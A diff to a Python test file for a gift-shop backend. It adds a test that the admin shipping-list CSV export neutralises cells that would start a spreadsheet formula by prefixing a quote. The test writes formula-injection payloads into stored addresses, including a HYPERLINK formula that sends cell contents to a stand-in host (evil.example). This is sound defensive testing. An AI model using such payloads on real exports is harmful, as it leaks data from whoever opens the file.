@@ -3,6 +3,8 @@ sender follows the claims and the order's refunds, the operator ships from the s
 WeChat Pay's refund notify is trusted only once verified. The refund rules themselves (what is
 refunded, exactly once) are tested in the domain: tests/lottery/test_refunds.py."""
 import asyncio
+import csv
+import io
 from datetime import timedelta
 
 import pytest
@@ -235,3 +237,23 @@ async def test_the_shipping_list_comes_as_json_or_csv_and_another_format_is_refu
     # An unknown format is a mistake, not a JSON answer.
     status, answer = await api.request("GET", "/api/admin/claims?format=xml", token=api.admin_token)
     assert status == 400 and answer["error"]["code"] == "invalid_input"
+
+
+@pytest.mark.gen_test(timeout=60)
+async def test_shipping_list_csv_cells_that_would_start_a_formula_begin_with_a_quote(api, app, db, pay_fake):
+    cup = await product(api, "保温杯", 12900, 10)
+    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="direct")
+    winner = await api.login("winner")
+    await api.join(winner, order_id)
+    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner))[0] == 200
+    # Tab and carriage return never pass the claim's checks: written as if stored before them.
+    hostile = {"userName": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "provinceName": "+1+1",
+               "cityName": "-2+3", "countyName": "@SUM(1,2)", "detailInfo": "\t=1+1", "postalCode": "\r=1"}
+    await db.claims.update_one({"order_id": order_id}, {"$set": {
+        **{f"address.{name}": value for name, value in hostile.items()}, "item.name": "=1+1"}})
+    response = await api.http.fetch(api.base_url + "/api/admin/claims?status=claimed&format=csv",
+                                    headers={"Authorization": f"Bearer {api.admin_token}"})
+    [row] = list(csv.DictReader(io.StringIO(response.body.decode(), newline="")))
+    for name, value in {**hostile, "item": "=1+1"}.items():
+        assert row[name] == "'" + value, name
+    assert row["telNumber"] == ADDRESS["telNumber"] and row["order_id"] == order_id  # harmless: as it was
